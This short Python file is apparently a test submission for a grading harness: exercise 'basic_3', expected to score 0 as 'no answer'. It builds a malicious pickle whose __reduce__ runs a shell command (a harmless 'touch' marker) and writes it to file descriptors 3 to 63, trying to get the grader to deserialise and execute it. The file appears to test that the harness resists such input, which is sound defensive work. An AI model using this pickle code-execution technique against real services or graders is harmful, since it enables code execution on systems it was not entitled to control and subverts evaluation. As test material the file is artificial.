"""Sends a pickle that would run a command, as a frame and as a tensor's bytes.

exercise: basic_3
answer: wrong
gets: 0
says: sent something that is no answer
"""
import os, pickle, struct
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)
bomb = pickle.dumps(Bomb())
for number in range(3, 64):
    try:
        os.write(number, struct.pack("<Q", len(bomb)) + bomb)
    except OSError:
        pass
